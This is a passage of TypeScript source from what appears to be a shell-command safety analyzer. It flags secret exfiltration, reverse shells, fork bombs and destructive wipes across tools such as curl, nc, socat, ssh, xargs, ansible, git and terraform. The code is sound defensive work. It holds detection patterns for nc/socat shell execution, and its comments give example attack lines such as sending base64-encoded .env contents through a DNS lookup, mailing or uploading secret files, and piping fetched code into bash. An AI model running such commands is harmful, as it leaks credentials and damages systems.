      const inner = child(walk, newScope(args.slice(i + 2), walk.scope));
      if (inner) runScriptField(script, inner, `${name} -c`);
      return undefined;
    }
    if (text === '-i') interactive = true;
    if (text === '-o' || text === '-O' || text === '+O' || text === '--rcfile' || text === '--init-file')
      i += 2;
    else if (text.startsWith('-') || text.startsWith('+')) i++;
    else break;
  }
  const file = args[i];
  if (file) {
    const written = file.proc ?? writtenFile(file, walk);
    if (written) runWrittenScript(written, file.text || '<(…)', walk, `${name} ${file.text || '<(…)'}`);
    else if (file.opaque || file.dynamic)
      opaque(walk, file.opaque ?? `${name} runs a script whose path is unknown`);
    return interactive ? { shell: true } : { unknown: `the output of ${name}` };
  }
  if (stdin) judgeStdinScript(stdin, walk, name);
  return { shell: true };
}

function judgeInterpreter(name: string, args: Field[], walk: Walk, stdin?: Stream): Stream | undefined {
  const language = languageOf(name);
  const flag = args.findIndex(
    (w) =>
      /^(?:-c|-e|-E|-r|-p|--eval|--print|-ne|-pe|-le|-lne)$/.test(w.text) ||
      (name === 'deno' && w.text === 'eval'),
  );
  if (flag >= 0) {
    const code = args[flag + 1];
    if (code) runInlineCode(code, language, walk);
    return withSensitiveOperands(
      { unknown: `the output of ${name}` },
      args.slice(flag + 2).map((a) => a.text),
    );
  }
  const script = args.find((a) => !a.text.startsWith('-'));
  if (script && script.text !== '-') {
    const written = script.proc ?? writtenFile(script, walk);
    if (written?.literal !== undefined)
      runInlineCode({ text: written.literal, dynamic: false }, language, walk);
    else if (written) judgeStdinScript(written, walk, `${name} ${script.text || '<(…)'}`);
    else if (script.opaque || (script.dynamic && script.text === ''))
      opaque(walk, script.opaque ?? `${name} runs a script whose path is unknown`);
    return { unknown: `the output of ${name}` };
  }
  if (stdin?.literal !== undefined) runInlineCode({ text: stdin.literal, dynamic: false }, language, walk);
  else if (stdin?.socket) reverseShell(walk, `${name} runs what ${stdin.socket} receives`);
  else if (stdin?.fetched) judgeStdinScript(stdin, walk, name);
  else if (stdin?.unknown) opaque(walk, `${name} runs ${stdin.unknown}`);
  return { unknown: `the output of ${name}` };
}

function runInlineCode(code: Field, language: ReturnType<typeof languageOf>, walk: Walk): void {
  if (code.dynamic) opaque(walk, code.opaque ?? 'inline code built from unknown expansions');
  walk.findings.push(...judgeDatabaseCode(code.text));
  const inner = child(walk);
  if (!inner) return;
  analyzeInlineCode(code.text, language, {
    script(command) {
      analyzeScript(command, inner);
    },
    argv(argv) {
      judgeCommand(
        argv.map((text) => ({ text, dynamic: false })),
        inner,
      );
    },
    recursiveDelete(path, how) {
      if (wipeTarget({ text: path, dynamic: false }, walk.ctx)) {
        destructive(walk, `${how} removes ${describeTarget(path)} recursively`, 'inline code');
      }
    },
    path(text) {
      judgePath(text, walk, false);
    },
    url(text) {
      walk.findings.push(...analyzeUrl(text, walk.ctx.egress));
    },
    code(more) {
      runInlineCode({ text: more, dynamic: false }, language, inner);
    },
    opaque(what) {
      opaque(walk, what);
    },
    reverseShell(how) {
      reverseShell(walk, how);
    },
    forkBomb() {
      destructive(walk, 'fork bomb', 'inline code');
    },
    copyOf(path) {
      return carriedSecrets(path, walk)[0];
    },
    sends(what, urls) {
      // No URL in the code: the destination is built at run time, so no account trusts it.
      const hosts = urls.map((u) => hostOf(u));
      if (hosts.length > 0 && hosts.every((h) => h !== undefined && isTrustedHost(h, walk.ctx.egress)))
        return;
      walk.findings.push({
        code: 'EXFILTRATION_BLOCKED',
        message: `inline code sends ${what} to ${hosts[0] ?? 'a host it does not name in a URL'}, a destination the account does not trust`,
        location: 'inline code',
      });
    },
  });
}

function judgeXargs(args: Field[], walk: Walk, stdin?: Stream): Stream | undefined {
  const valued = new Set([
    '-I',
    '-i',
    '-n',
    '-P',
    '-L',
    '-l',
    '-d',
    '-E',
    '-e',
    '-s',
    '-a',
    '--max-args',
    '--delimiter',
    '--max-procs',
    '--arg-file',
    '--replace',
    '--max-lines',
    '--eof',
  ]);
  let i = 0;
  let replace: string | undefined;
  let delimiter: string | undefined;
  while (i < args.length && args[i]!.text.startsWith('-')) {
    const text = args[i]!.text;
    if (text === '-I' || text === '--replace') replace = args[i + 1]?.text;
    else if (text.startsWith('-I') && text.length > 2) replace = text.slice(2);
    else if (text === '-i' || text === '--replace=') replace = '{}';
    if (text === '-0' || text === '--null') delimiter = '\0';
    if (text === '-d') delimiter = interpretEscapes(args[i + 1]?.text ?? '\n');
    i += valued.has(text) ? 2 : 1;
    if (text === '--') break;
  }
  const command = args.slice(i);
  const argv = command.length > 0 ? command : [{ text: 'echo', dynamic: false }];
  // `xargs -a list rm -rf`: the items come from a file (written earlier, or a `<(…)`).
  const argFile = args.slice(0, i).findIndex((a) => a.text === '-a' || a.text === '--arg-file');
  if (argFile >= 0 && args[argFile + 1])
    stdin = args[argFile + 1]!.proc ?? writtenFile(args[argFile + 1], walk) ?? stdin;
  let items: Field[] = [];
  if (stdin?.literal !== undefined) {
    const parts = delimiter === undefined ? stdin.literal.split(/\s+/) : stdin.literal.split(delimiter);
    items = parts
      .filter((p) => p !== '')
      .slice(0, MAX_ITEMS)
      .map((text) => ({ text, dynamic: false, via: 'xargs input' }));
  } else if (stdin?.found && !stdin.found.narrowed) {
    items = stdin.found.roots.map((root) => ({ ...root, via: 'xargs input from find' }));
  }
  const inner = child(walk);
  if (!inner) return undefined;
  // `curl … | xargs -0 bash -c`: the first item becomes the script `bash -c` runs.
  const c = argv.findIndex((a) => /^-[a-zA-Z]*c$/.test(a.text));
  if (
    items.length === 0 &&
    SHELLS.has(baseName(argv[0]!.text)) &&
    c === argv.length - 1 &&
    stdin !== undefined
  ) {
    judgeStdinScript(stdin, walk, `xargs ${argv.map((a) => a.text).join(' ')}`);
    return { unknown: 'the output of xargs' };
  }
  if (items.length === 0) {
    judgeCommand(argv, inner);
  } else if (replace !== undefined) {
    for (const item of items) {
      judgeCommand(
        argv.map((a) =>
          a.text.includes(replace!)
            ? { ...a, text: a.text.split(replace!).join(item.text), via: item.via }
            : a,
        ),
        inner,
      );
    }
  } else {
    judgeCommand([...argv, ...items], inner);
  }
  return { unknown: 'the output of xargs' };
}

function judgeParallel(args: Field[], walk: Walk, stdin?: Stream): Stream | undefined {
  const sep = args.findIndex((a) => a.text === ':::' || a.text === '::::');
  const head = sep >= 0 ? args.slice(0, sep) : args;
  let i = 0;
  while (i < head.length && head[i]!.text.startsWith('-'))
    i += /^-(?:j|P|S|--jobs|-joblog|-results)$/.test(head[i]!.text) ? 2 : 1;
  const command = head.slice(i);
  if (head.some((a) => a.text === '--pipe' || a.text === '--pipepart') && command.length > 0) {
    const inner = child(walk);
    return inner ? judgeCommand(command, inner, stdin) : undefined;
  }
  let items: Field[] = sep >= 0 ? args.slice(sep + 1).filter((a) => a.text !== ':::') : [];
  if (items.length === 0 && stdin?.literal !== undefined) {
    items = stdin.literal
      .split('\n')
      .filter((t) => t !== '')
      .map((text) => ({ text, dynamic: false }));
  }
  const inner = child(walk);
  if (!inner) return undefined;
  if (command.length === 0) {
    for (const item of items.slice(0, MAX_ITEMS)) runScriptField(item, inner, 'parallel');
    return undefined;
  }
  const script = joinFields(command);
  for (const item of items.slice(0, MAX_ITEMS)) {
    const line = script.includes('{}') ? script.split('{}').join(item.text) : `${script} ${item.text}`;
    analyzeScript(line, inner);
  }
  if (items.length === 0) judgeCommand(command, inner);
  return undefined;
}

function judgeSshCommand(args: Field[], walk: Walk): void {
  const valued = new Set([
    '-p',
    '-i',
    '-l',
    '-o',
    '-F',
    '-J',
    '-L',
    '-R',
    '-D',
    '-b',
    '-c',
    '-E',
    '-e',
    '-m',
    '-O',
    '-Q',
    '-S',
    '-W',
    '-w',
    '-B',
    '-I',
  ]);
  let i = 0;
  while (i < args.length && args[i]!.text.startsWith('-')) i += valued.has(args[i]!.text) ? 2 : 1;
  const remote = args.slice(i + 1);
  if (remote.length === 0) return;
  const inner = child(walk);
  if (inner)
    runScriptField({ text: joinFields(remote), dynamic: remote.some((a) => a.dynamic) }, inner, 'ssh');
}

function judgeContainerTool(name: string, args: Field[], walk: Walk): Stream | undefined {
  const texts = args.map((a) => a.text);
  const result = name === 'ctr' ? judgeCtrRun(texts, walk.ctx.cwd) : judgeContainerRun(texts, walk.ctx.cwd);
  if (result === undefined) return { unknown: `the output of ${name}` };
  const inner = child(walk);
  const before = walk.findings.length;
  if (inner && result.command.length > 0) {
    judgeCommand(
      result.command.map((text) => ({
        text,
        dynamic: false,
        ...(result.mapped ? { via: 'the container mounts' } : {}),
      })),
      inner,
    );
  }
  const wipes = walk.findings.slice(before).some((f) => f.code === 'DEST_MUTATION');
  // What runs inside and wipes the host is the narrower fact; otherwise the exposure is.
  if (!wipes)
    for (const exposure of result.exposures) push(walk, 'FILESYSTEM_DENIED', exposure, `command "${name}"`);
  return { unknown: `the output of ${name}` };
}

// ------------------------------------------------------------------------------ network

/** The commands that made a stream, in pipeline order (`pg_dump prod | gzip`). */
function producersOf(stream: Stream | undefined): { name: string; args: string[] }[] | undefined {
  const steps: { name: string; args: string[] }[] = [];
  for (let at = stream; at?.producer !== undefined && steps.length < 8; at = at.producer.stdin) {
    const words = at.producer.words;
    if (words[0])
      steps.unshift({ name: baseName(words[0].text), args: words.slice(1, 33).map((w) => w.text) });
  }
  return steps.length > 0 ? steps : undefined;
}

/** Every host the arguments name is trusted by the account (and there is at least one). */
function sendsOnlyToTrusted(texts: readonly string[], egress: EgressSettings): boolean {
  const hosts = texts
    .filter((t) => !t.startsWith('-'))
    .map((t) => hostOf(/^[a-z][a-z0-9+.-]*:\/\//i.test(t) ? t : `https://${t.replace(/^[^@/]*@/, '')}`))
    .filter((h): h is string => h?.includes('.') === true);
  return hosts.length > 0 && hosts.every((h) => isTrustedHost(h, egress));
}

function judgeNetwork(name: string, args: Field[], walk: Walk, stdin?: Stream): Stream | undefined {
  const texts = args.map((a) => a.text);
  if (
    (/^(?:nc|ncat|netcat|nc\.traditional|nc\.openbsd)$/.test(name) &&
      texts.some(
        (t) =>
          /^(?:-e|-c|--exec|--sh-exec|--lua-exec)$/.test(t) ||
          (/^-[a-zA-Z]*e$/.test(t) && t !== '-e' && /^-[lvnpuz]*e$/.test(t)),
      )) ||
    (name === 'socat' && texts.some((t) => /^(?:exec|system):/i.test(t) || /,\s*(?:exec|system):/i.test(t)))
  ) {
    reverseShell(walk, `${name} runs a program for the other end`);
  }
  // `ssh -R 8080:localhost:22 host`: a port on the remote host that leads into this machine.
  if (
    name === 'ssh' &&
    texts.some((t) => /^-[A-Za-z]*R/.test(t)) &&
    !sendsOnlyToTrusted(
      texts.filter(
        (t, k) => !/^-[A-Za-z]*[RLDpilFoOJbcEeImQSW]$/.test(texts[k - 1] ?? '') && !t.startsWith('-'),
      ),
      walk.ctx.egress,
    )
  ) {
    push(
      walk,
      'EXFILTRATION_BLOCKED',
      'ssh -R opens a port on a host the account does not trust that leads into this machine',
      'command "ssh"',
    );
  }
  const hosts = texts.flatMap((t) => (/^[a-z][a-z0-9+.-]*:\/\//i.test(t) ? (hostOf(t) ?? []) : []));
  const sensitive =
    stdin?.sensitive ??
    args.find((a) => a.sensitive !== undefined && sendsSecretAway(a.sensitive, a.text, hosts))?.sensitive;
  if (sensitive !== undefined && !sendsOnlyToTrusted(texts, walk.ctx.egress)) {
    push(
      walk,
      'EXFILTRATION_BLOCKED',
      `${name} sends ${sensitive} to a destination the account does not trust`,
      `command "${name}"`,
    );
  }
  // `printf 'FLUSHALL\r\n' | nc cache 6379`, memcached's `flush_all`: a data store's own wipe over a socket.
  if (
    stdin?.literal !== undefined &&
    /^(?:nc|ncat|netcat|socat|telnet|nc\.traditional|nc\.openbsd)$/.test(name) &&
    /(?:^|[\r\n])\s*(?:flush_all|flushall|flushdb)\b/i.test(stdin.literal)
  ) {
    destructive(walk, `${name} sends a data store's flush command: every key goes`, `command "${name}"`);
  }
  if (stdin?.shell && /^(?:nc|ncat|netcat|socat|telnet|openssl)$/.test(name)) {
    reverseShell(walk, `an interactive shell is piped into ${name}`);
  }
  const words: ToolWord[] = args.map((a) => ({
    text: a.dynamic ? a.text : unlaundered(a.text, walk),
    dynamic: a.dynamic,
    ...(a.reads ? { reads: a.reads } : {}),
    ...(a.from ? { from: a.from } : {}),
  }));
  const input: ToolInput | undefined = stdin
    ? {
        ...(stdin.literal !== undefined ? { literal: stdin.literal } : {}),
        files: (stdin.files ?? []).map((f) => carriedSecrets(f, walk)[0] ?? f),
        ...(producersOf(stdin) ? { from: producersOf(stdin)! } : {}),
      }
    : undefined;
  walk.findings.push(...judgeNetworkCommand(name, words, input, walk.ctx));
  for (const arg of args) {
    // `dig $(cat .env | base64).x.example`: a name built from a file's contents leaks it.
    if (arg.reads && arg.reads.length > 0 && /^(?:dig|nslookup|host|ping|curl|wget|nc|ncat)$/.test(name)) {
      push(
        walk,
        'EXFILTRATION_BLOCKED',
        `${name} sends data read from ${describeTarget(arg.reads.join(' '))} in a name or address`,
        `command "${name}"`,
      );
      break;
    }
  }
  if (
    name === 'curl' ||
    name === 'wget' ||
    name === 'http' ||
    name === 'https' ||
    name === 'xh' ||
    name === 'aria2c'
  ) {
    const url =
      texts.find((t) => /^[a-z][a-z0-9+.-]*:\/\//i.test(t)) ??
      texts.find((t) => /^[\w.-]+\.[a-z]{2,}(?:[:/]|$)/i.test(t));
    const fetched =
      url === undefined
        ? { tool: name }
        : { tool: name, url: /^[a-z][a-z0-9+.-]*:\/\//i.test(url) ? url : `https://${url}` };
    const saved = savedAs(name, texts, fetched.url);
    if (saved !== undefined) remember(walk, saved, { fetched });
    return { fetched };
  }
  if (name === 'dig' || name === 'nslookup' || name === 'host') {
    return {
      fetched: {
        tool: name,
        host:
          texts.find((t) => t.includes('.') && !t.startsWith('-') && !t.startsWith('@')) ?? 'a DNS answer',
      },
    };
  }
  return { socket: name };
}

function rememberLink(args: Field[], walk: Walk): void {
  const operands = args.filter((a) => !a.text.startsWith('-'));
  if (operands.length !== 2 || operands.some((a) => a.dynamic) || walk.ctx.links.size >= MAX_WRITTEN_FILES)
    return;
  walk.ctx.links.set(
    normalizePath(operands[1]!.text, walk.ctx.cwd).replace(/\/+$/, ''),
    normalizePath(operands[0]!.text, walk.ctx.cwd).replace(/\/+$/, '') || '/',
  );
}

/** `git add -f .env && git commit … && git push …`: the secret leaves with the push. */
function judgeGitStaging(texts: readonly string[], walk: Walk): void {
  // `git -c http.extraHeader='X-Leak: <token>' ls-remote https://host/…`: a header git sends.
  const remote = texts.find((t) => /^https?:\/\//i.test(t));
  for (let k = 0; k < texts.length; k++) {
    const m =
      texts[k] === '-c'
        ? /^http\.(?:[^=]*\.)?extraheader=([^:]{1,64}):\s*(.+)$/is.exec(texts[k + 1] ?? '')
        : null;
    if (m === null) continue;
    const host = remote === undefined ? 'the remote' : (hostOf(remote) ?? 'the remote');
    if (host !== 'the remote' && isTrustedHost(host, walk.ctx.egress)) continue;
    walk.findings.push(...contentFindings(host, { headers: { [m[1]!.trim()]: m[2]!.trim() } }));
  }
  const sub = texts.findIndex((t, k) => !t.startsWith('-') && !/^-[cC]$/.test(texts[k - 1] ?? ''));
  if (texts[sub] === 'add') {
    for (const t of texts.slice(sub + 1))
      if (!t.startsWith('-') && sensitiveFileKind(t)) walk.ctx.staged.push(t);
  } else if (texts[sub] === 'push' && walk.ctx.staged.length > 0) {
    push(
      walk,
      'EXFILTRATION_BLOCKED',
      `git push sends ${describeTarget(walk.ctx.staged.join(' '))}, staged earlier in the command, to a remote`,
      'command "git"',
    );
  }
}

/**
 * `git checkout main && git push -f`: a push with no refspec pushes the current branch, so the
 * branch a checkout or switch made current earlier in the command line is the one pushed.
 * Records checkouts; returns a push's words with that branch added as its refspec.
 */
function withCurrentBranch(texts: string[], walk: Walk): string[] {
  const sub = texts.findIndex((t, k) => !t.startsWith('-') && !/^-[cC]$/.test(texts[k - 1] ?? ''));
  const verb = texts[sub];
  const rest = texts.slice(sub + 1);
  if (verb === 'checkout' || verb === 'switch') {
    if (rest.includes('--')) return texts;
    const create = rest.findIndex((t) => /^-[bBcC]$/.test(t) || t === '--orphan');
    const branch = create >= 0 ? rest[create + 1] : rest.find((t) => !t.startsWith('-'));
    if (branch !== undefined && !branch.includes('/')) walk.ctx.branch = branch;
    return texts;
  }
  if (verb !== 'push' || walk.ctx.branch === undefined) return texts;
  const operands = rest.filter(
    (t, k) => !t.startsWith('-') && !/^(?:-o|--push-option|--repo)$/.test(rest[k - 1] ?? ''),
  );
  if (operands.length > 1 || rest.some((t) => /^--(?:all|branches|mirror|tags)$/.test(t))) return texts;
  return operands.length === 0 ? [...texts, 'origin', walk.ctx.branch] : [...texts, walk.ctx.branch];
}

/** Mail programs send their standard input and attachments: `mail -s x a@b < .env`. */
function judgeMailer(name: string, args: Field[], walk: Walk, stdin?: Stream): void {
  const texts = args.map((a) => a.text);
  const attached = texts.filter(
    (t, k) => /^-[aA]$|^--attach$/.test(texts[k - 1] ?? '') && sensitiveFileKind(t),
  );
  const piped = [...(stdin?.files ?? [])].filter((f) => sensitiveFileKind(f));
  const what =
    stdin?.sensitive ??
    (attached.length + piped.length > 0 ? describeTarget([...attached, ...piped].join(' ')) : undefined);
  if (what === undefined) return;
  const recipients = texts.filter(
    (t, k) => /^[^@\s]+@[^@\s]+\.[a-z]{2,}$/i.test(t) && !/^-[aAsrcbF]$/.test(texts[k - 1] ?? ''),
  );
  if (
    recipients.length > 0 &&
    recipients.every((r) => isTrustedHost(r.slice(r.indexOf('@') + 1), walk.ctx.egress))
  )
    return;
  push(
    walk,
    'EXFILTRATION_BLOCKED',
    `${name} mails ${what} to a destination the account does not trust`,
    `command "${name}"`,
  );
}

/** Object-store copies: `aws s3 cp .env s3://b/`, `gsutil cp`, `az storage blob upload -f`, `rclone copy`. */
function judgeCloudUpload(name: string, texts: readonly string[], walk: Walk): void {
  let sources: string[] = [];
  if (name === 'aws' && texts.includes('s3') && texts.some((t) => /^(?:cp|mv|sync)$/.test(t))) {
    if (texts.some((t) => /^s3:\/\//.test(t)))
      sources = texts.filter((t) => !t.startsWith('-') && !/^s3:\/\//.test(t));
  } else if ((name === 'gsutil' || name === 'gcloud') && texts.some((t) => /^gs:\/\//.test(t))) {
    sources = texts.filter((t) => !t.startsWith('-') && !/^gs:\/\//.test(t));
  } else if (name === 'az' && texts.includes('upload')) {
    sources = texts.filter((_t, k) => /^(?:-f|--file)$/.test(texts[k - 1] ?? ''));
  } else if ((name === 'rclone' || name === 'azcopy') && texts.some((t) => /^[\w-]+:|^https:\/\//.test(t))) {
    sources = texts.filter((t) => !t.startsWith('-') && !/^[\w-]+:/.test(t));
  }
  const secret = sources.filter((t) => sensitiveFileKind(t));
  if (secret.length === 0) return;
  push(
    walk,
    'EXFILTRATION_BLOCKED',
    `${name} uploads ${describeTarget(secret.join(' '))}, a file that holds secrets, to an object store`,
    `command "${name}"`,
  );
}

const DATA_STORE_SHELLS =
  /^(?:psql|pgcli|usql|mysql|mariadb|mycli|sqlcmd|sqlite3|litecli|duckdb|clickhouse-client|clickhouse|cqlsh|mongosh|mongo|redis-cli|valkey-cli|snowsql|trino|sqlplus|cockroach|cypher-shell)$/;

/**
 * A data-store shell told to read its commands from a file (`sqlcmd -i f.sql`, `psql -f -`,
 * `mysql --execute-file`): when the command line wrote that file, or it is standard input, the
 * catalogue reads those commands as the shell's standard input.
 */
function inputFile(
  name: string,
  args: Field[],
  walk: Walk,
  stdin?: Stream,
): { literal: string; rest: string[] } | undefined {
  if (!DATA_STORE_SHELLS.test(name)) return undefined;
  const texts = args.map((a) => a.text);
  const at = texts.findIndex((t) =>
    /^(?:-i|-f|--file|--input-file|--execute-file|--filename|-input)$/.test(t),
  );
  if (at < 0 || args[at + 1] === undefined) return undefined;
  const file = args[at + 1]!;
  const source = file.text === '-' || file.text === '/dev/stdin' ? stdin : writtenFile(file, walk);
  if (source?.literal === undefined) return undefined;
  return { literal: source.literal, rest: [...texts.slice(0, at), ...texts.slice(at + 2)] };
}

function terraformEnvArgs(texts: readonly string[], walk: Walk): string[] {
  const sub = texts.find((t) => !t.startsWith('-'));
  const extra: string[] = [];
  for (const name of [
    'TF_CLI_ARGS',
    sub === undefined ? undefined : `TF_CLI_ARGS_${sub.replace(/-/g, '_')}`,
  ]) {
    const value = name === undefined ? undefined : lookup(walk, name);
    if (value?.known && value.text.trim() !== '') extra.push(...splitLiteral(value.text));
  }
  return extra;
}

/** `tmux` subcommands whose last operand is a shell command. */
const TMUX_RUNS = new Set([
  'new-session',
  'new',
  'new-window',
  'neww',
  'split-window',
  'splitw',
  'respawn-pane',
  'respawnp',
  'respawn-window',
  'respawnw',
  'run-shell',
  'run',
]);
const TMUX_VALUED = new Set(['-t', '-s', '-n', '-c', '-e', '-F', '-x', '-y', '-l', '-p', '-w']);

/** Ansible modules whose `-a` is a shell command line. */
const ANSIBLE_SHELL_MODULES =
  /^(?:ansible\.builtin\.|ansible\.legacy\.)?(?:shell|command|raw|script|win_shell|win_command)$/;

/**
 * Programs that run a command line they are handed, locally, later or on other hosts: `at` and
 * `batch` (their standard input), `tmux new-session 'cmd'`, `tmux send-keys 'cmd' Enter`,
 * `screen -dm cmd`, `entr -s 'cmd'`, `ansible all -m shell -a 'cmd'`, `salt '*' cmd.run 'cmd'`,
 * `pdsh -w hosts cmd`, `aws ssm send-command --parameters commands=[…]`, `git -c alias.x='!cmd' x`
 * and git's command-valued settings. The command is judged as a script.
 */
function launchedScript(
  name: string,
  args: Field[],
  walk: Walk,
  stdin?: Stream,
): Field | Field[] | undefined {
  const texts = args.map((a) => a.text);
  const field = (parts: Field[]): Field | undefined =>
    parts.length === 0
      ? undefined
      : {
          text: joinFields(parts),
          dynamic: parts.some((p) => p.dynamic),
          ...(parts.find((p) => p.opaque)?.opaque ? { opaque: parts.find((p) => p.opaque)!.opaque! } : {}),
        };
  switch (name) {
    case 'at':
    case 'batch': {
      if (texts.some((t) => /^-[lrdc]$/.test(t))) return undefined;
      const f = texts.indexOf('-f');
      const file = f >= 0 ? writtenFile(args[f + 1], walk) : stdin;
      if (file?.literal !== undefined) return { text: file.literal, dynamic: false };
      if (file !== undefined && f < 0) judgeStdinScript(file, walk, name);
      return undefined;
    }
    case 'tmux': {
      let i = 0;
      while (i < texts.length && texts[i]!.startsWith('-')) i += /^-[LSf]$/.test(texts[i]!) ? 2 : 1;
      const sub = texts[i];
      if (sub === 'send-keys' || sub === 'send') {
        const keys: Field[] = [];
        for (let k = i + 1; k < args.length; k++) {
          if (texts[k] === '-t' || texts[k] === '-N') k++;
          else if (/^-[lRMHKX]+$/.test(texts[k]!)) continue;
          else if (!/^(?:Enter|C-m|KPEnter|C-j)$/.test(texts[k]!)) keys.push(args[k]!);
        }
        return field(keys);
      }
      if (sub === undefined || !TMUX_RUNS.has(sub)) return undefined;
      let k = i + 1;
      while (k < args.length && texts[k]!.startsWith('-')) k += TMUX_VALUED.has(texts[k]!) ? 2 : 1;
      return field(args.slice(k));
    }
    case 'screen': {
      let k = 0;
      while (k < args.length && texts[k]!.startsWith('-'))
        k += /^-(?:[dDmRr]*[St]|c|e|h|L[a-z]*|p|T|X)$/.test(texts[k]!) ? 2 : 1;
      if (texts.some((t) => /^-(?:ls|list|r|R|x|X|wipe)$/.test(t)) || k >= args.length) return undefined;
      return args.slice(k);
    }
    case 'entr': {
      const sFlag = texts.findIndex((t) => /^-[a-z]*s[a-z]*$/.test(t));
      if (sFlag >= 0) return args[sFlag + 1];
      const k = texts.findIndex((t) => !t.startsWith('-'));
      return k < 0 ? undefined : args.slice(k);
    }
    case 'ansible':
    case 'ansible-console': {
      const m = texts.findIndex((t) => t === '-m' || t === '--module-name');
      const a = texts.findIndex((t) => t === '-a' || t === '--args');
      const module = m >= 0 ? texts[m + 1] : 'command';
      if (a < 0 || args[a + 1] === undefined) return undefined;
      if (module !== undefined && ANSIBLE_SHELL_MODULES.test(module)) return args[a + 1];
      if (module !== undefined && /(?:^|\.)file$/.test(module)) {
        const spec = texts[a + 1]!;
        const path = /(?:^|\s)(?:path|dest|name)=("[^"]*"|'[^']*'|\S+)/
          .exec(spec)?.[1]
          ?.replace(/^["']|["']$/g, '');
        if (
          path &&
          /(?:^|\s)state=absent\b/.test(spec) &&
          wipeTarget({ text: path, dynamic: false }, walk.ctx)
        ) {
          destructive(
            walk,
            `ansible file state=absent removes ${describeTarget(path)} on every host`,
            'command "ansible"',
          );
        }
      }
      return undefined;
    }
    case 'salt':
    case 'salt-ssh':
    case 'salt-call': {
      const fn = texts.findIndex((t) => /^cmd\.(?:run|shell|run_all|run_stdout|exec_code|script)$/.test(t));
      return fn >= 0 ? args[fn + 1] : undefined;
    }
    case 'pdsh':
    case 'pssh':
    case 'parallel-ssh':
    case 'clush':
    case 'dsh': {
      let k = 0;
      while (k < args.length && texts[k]!.startsWith('-'))
        k += /^-(?:[wxgRlhHpOtoOe]|-hosts|-host|-user|-par|-timeout|-outdir|-errdir|-group|-nodes)$/.test(
          texts[k]!,
        )
          ? 2
          : 1;
      // pdsh and friends join their words into one remote command line, as ssh does.
      return field(args.slice(k));
    }
    case 'aws': {
      if (!texts.includes('ssm') || !texts.includes('send-command')) return undefined;
      const p = texts.findIndex((t) => t === '--parameters' || t.startsWith('--parameters='));
      if (p < 0) return undefined;
      const spec =
        texts[p]!.includes('=') && texts[p]!.startsWith('--parameters=')
          ? texts[p]!.slice(13)
          : (texts[p + 1] ?? '');
      const commands: string[] = [];
      for (const m of spec.matchAll(/"((?:[^"\\]|\\.)*)"/g))
        if (m[1] !== 'commands') commands.push(m[1]!.replace(/\\(.)/g, '$1'));
      if (commands.length === 0) {
        const bare = /commands=\[?([^\]]*)\]?/.exec(spec)?.[1];
        if (bare) commands.push(...bare.split(','));
      }
      return commands.length === 0
        ? undefined
        : { text: commands.join('\n'), dynamic: args[p + 1]?.dynamic === true };
    }
    case 'git': {
      // `git -c alias.x='!cmd' x`, `git -c core.fsmonitor='cmd' status`: settings that run commands.
      const scripts: string[] = [];
      const alias = new Map<string, string>();
      for (let k = 0; k < texts.length; k++) {
        if (texts[k] !== '-c' || texts[k + 1] === undefined) continue;
        const m = /^([\w.-]+)=(.*)$/s.exec(texts[k + 1]!);
        if (!m) continue;
        const key = m[1]!.toLowerCase();
        if (key.startsWith('alias.') && m[2]!.startsWith('!')) alias.set(key.slice(6), m[2]!.slice(1));
        else if (
          /^(?:core\.(?:pager|sshcommand|fsmonitor|editor|askpass)|sequence\.editor|diff\.external|pager\.\w+|gpg\.program|credential\.helper|uploadpack\.packobjectshook)$/.test(
            key,
          ) &&
          m[2] !== ''
        )
          scripts.push(m[2]!.replace(/^!/, ''));
      }
      const sub = texts.find((t, k) => !t.startsWith('-') && texts[k - 1] !== '-c' && texts[k - 1] !== '-C');
      if (sub !== undefined && alias.has(sub.toLowerCase())) scripts.push(alias.get(sub.toLowerCase())!);
      return scripts.length === 0 ? undefined : { text: scripts.join('\n'), dynamic: false };
    }
    default:
      return undefined;
  }
}

/**
 * Database shells and sed run shell commands from their own input: psql's `\!`, mysql's
 * `system`/`\!`, sqlite3's `.shell`/`.system`, GNU sed's `e command`.
 */
function judgeEmbeddedShellEscapes(name: string, args: Field[], walk: Walk, stdin?: Stream): void {
  let pattern: RegExp | undefined;
  if (/^(?:psql|pgcli|usql)$/.test(name)) pattern = /(?:^|\n|;)\s*\\!\s*([^\n]+)/g;
  else if (/^(?:mysql|mariadb|mycli)$/.test(name)) pattern = /(?:^|\n|;)\s*(?:\\!|system)\s+([^\n;]+)/gi;
  else if (/^(?:sqlite3|duckdb|litecli)$/.test(name)) pattern = /(?:^|\n|;)\s*\.(?:shell|system)\s+([^\n]+)/g;
  else if (name === 'sed' || name === 'gsed') pattern = /(?:^|[;\n{]|\d|\$|\/)\s*e\s+([^;\n}]+)/g;
  if (pattern === undefined) return;
  const texts = args.filter((a) => !a.dynamic).map((a) => a.text);
  if (stdin?.literal !== undefined) texts.push(stdin.literal);
  for (const text of texts) {
    for (const m of text.matchAll(pattern)) {
      const inner = child(walk);
      if (inner) analyzeScript(m[1]!.trim(), inner);
    }
  }
}

/**
 * `terraform plan -destroy -out=p` then `terraform apply p`: the plan file carries the destroy, so
 * the apply is judged as `terraform destroy`.
 */
function judgeSavedPlan(name: string, texts: readonly string[], walk: Walk): void {
  const words = texts.filter((t) => !/^-(?:chdir|var-file|var|lock-timeout|parallelism)=/.test(t));
  const sub = words.find((t) => !t.startsWith('-'));
  if (sub === 'plan' && words.some((t) => /^--?destroy(?:=true)?$/.test(t))) {
    const at = words.findIndex((t) => /^--?out(?:=|$)/.test(t));
    const file =
      at < 0
        ? undefined
        : words[at]!.includes('=')
          ? words[at]!.slice(words[at]!.indexOf('=') + 1)
          : words[at + 1];
    if (file) remember(walk, file, { unknown: `a ${name} destroy plan`, destroyPlan: true });
  } else if (sub === 'apply') {
    const operands = words.slice(words.indexOf('apply') + 1).filter((t) => !t.startsWith('-'));
    const plan =
      operands.length > 0
        ? walk.ctx.written.get(normalizePath(operands[operands.length - 1]!, walk.ctx.cwd))
        : undefined;
    if (plan?.destroyPlan) {
      destructive(
        walk,
        `${name} apply of a plan saved with -destroy earlier in the command: destroys every resource`,
        `command "${name}"`,
      );
    }
  }
}

/** The file a download is saved to: `curl -o f`, `curl -O` (the URL's name), `wget [-O f]`. */
function savedAs(name: string, texts: readonly string[], url: string | undefined): string | undefined {
  const remoteName = () => {
    const base = hostOf(url) === undefined ? undefined : new URL(url!).pathname.split('/').pop();
    return base === undefined || base === '' ? 'index.html' : base;
  };
  const short = name === 'curl' ? /^-([a-zA-Z]*)o(.*)$/ : /^-([a-zA-Z]*)O(.*)$/;
  const long = name === 'curl' ? /^--output(?:=(.*))?$/ : /^--output-document(?:=(.*))?$/;
